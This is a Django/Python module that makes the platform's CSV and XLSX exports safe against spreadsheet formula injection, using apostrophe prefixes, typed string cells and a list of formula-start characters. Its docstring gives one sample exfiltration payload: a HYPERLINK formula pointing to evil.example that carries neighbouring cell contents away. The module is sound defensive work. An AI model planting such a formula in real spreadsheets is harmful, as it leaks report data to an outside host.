"""Every CSV and XLSX file the platform writes goes through this module (issue 10, item 3: formula injection).

A spreadsheet evaluates a cell that starts with `=`, `+`, `-` or `@` (and, in some programs, one that starts
with a tab or a carriage return) as a formula, so a service named `=HYPERLINK("http://evil.example/?"&A1;"x")`
would become a live link that sends the neighbouring cells away when the officer opens the report.

- `safe_cell(value)`: text that could start a formula gets a leading `'` (OWASP "CSV injection"); numbers,
  `Decimal`, dates and `None` stay as they are, so figures remain figures.
- `write_csv` / `csv_response`: semicolon-separated UTF-8 with a BOM (what a Polish Excel opens), decimal comma,
  dates `dd.mm.rrrr`, every text cell through `safe_cell`.
- `xlsx_bytes` / `xlsx_response`: every text cell written explicitly as a string (never a formula `<f>`, never
  an error value) and, when it starts like a formula, with the "quote prefix" style, the XLSX form of the `'`.
  XLSX exports do not show the apostrophe; CSV has no types, so there it is part of the text.

Names are stored exactly as typed; they are neutralised only on the way out.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable, Sequence
from datetime import date, datetime, time
from decimal import Decimal
from typing import Any

from django.http import HttpResponse
from django.utils import timezone
from django.utils.functional import Promise
from django.utils.http import content_disposition_header

from .middleware import add_no_store

# OWASP: =, +, -, @, tab and carriage return; plus the full-width forms some spreadsheets also accept.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")
QUOTE = "'"
XLSX_CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
CSV_CONTENT_TYPE = "text/csv; charset=utf-8"

Row = Sequence[Any]


def _starts_like_formula(text: str) -> bool:
    # Some programs drop leading spaces and line breaks before they look at the first character.
    return text.startswith(FORMULA_STARTS) or text.lstrip(" \n").startswith(FORMULA_STARTS)


def safe_cell(value: Any) -> Any:
    """The value ready for a spreadsheet: text that could start a formula is prefixed with `'`; numbers
    (`int`, `float`, `Decimal`), booleans, dates, times and `None` are returned unchanged; anything else
    (lazy translations, model instances) is turned into text first."""
    if value is None or isinstance(value, bool | int | float | Decimal | date | time):
        return value
    text = str(value) if isinstance(value, Promise) or not isinstance(value, str) else value
    return QUOTE + text if _starts_like_formula(text) else text


def _local(value: datetime) -> datetime:
    """Europe/Warsaw wall time without tzinfo (spreadsheets have no time zones)."""
    return timezone.localtime(value).replace(tzinfo=None) if timezone.is_aware(value) else value


def _csv_text(value: Any, decimal_comma: bool) -> Any:
    if value is None:
        return ""
    if isinstance(value, bool):
        return "tak" if value else "nie"
    if isinstance(value, Decimal | float):
        text = str(value)
        return text.replace(".", ",") if decimal_comma else text
    if isinstance(value, datetime):
        return f"{_local(value):%d.%m.%Y %H:%M}"
    if isinstance(value, date):
        return f"{value:%d.%m.%Y}"
    if isinstance(value, int | time):
        return str(value)
    return safe_cell(value)


def write_csv(rows: Iterable[Row], *, delimiter: str = ";", decimal_comma: bool = True) -> str:
    """The rows as CSV text (no BOM); every text cell through `safe_cell`."""
    buf = io.StringIO()
    writer = csv.writer(buf, delimiter=delimiter)
    for row in rows:
        writer.writerow([_csv_text(v, decimal_comma) for v in row])
    return buf.getvalue()


def _attachment(response: HttpResponse, filename: str) -> HttpResponse:
    response["Content-Disposition"] = content_disposition_header(as_attachment=True, filename=filename)
    add_no_store(response)
    return response


def csv_response(rows: Iterable[Row], filename: str, *, delimiter: str = ";") -> HttpResponse:
    """A CSV download (UTF-8 with BOM, so Excel reads Polish letters), never cached."""
    body = "\ufeff" + write_csv(rows, delimiter=delimiter)
    return _attachment(HttpResponse(body, content_type=CSV_CONTENT_TYPE), filename)


def xlsx_bytes(rows: Iterable[Row], *, title: Any = "Arkusz") -> bytes:
    """An XLSX workbook with one sheet. Text cells are typed strings (no formula can be written), text that
    starts like a formula also carries the quote-prefix style."""
    from openpyxl import Workbook
    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

    wb = Workbook()
    ws = wb.active
    ws.title = re.sub(r"[\\/?*\[\]:]", " ", str(title)).strip()[:31] or "Arkusz"  # Excel's sheet-name rules
    for r, row in enumerate(rows, start=1):
        for c, value in enumerate(row, start=1):
            if value is None:
                continue
            cell = ws.cell(row=r, column=c)
            if isinstance(value, bool | int | float | Decimal | date | time):
                cell.value = _local(value) if isinstance(value, datetime) else value
                continue
            text = ILLEGAL_CHARACTERS_RE.sub("", str(value))
            cell.value = text
            # openpyxl turns "=..." into a formula and "#N/A" into an error: force a plain string.
            cell.data_type = "s"
            if _starts_like_formula(text):
                cell.quotePrefix = True
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


def xlsx_response(rows: Iterable[Row], filename: str, *, title: Any = "Arkusz") -> HttpResponse:
    """An XLSX download, never cached."""
    return _attachment(HttpResponse(xlsx_bytes(rows, title=title), content_type=XLSX_CONTENT_TYPE), filename)
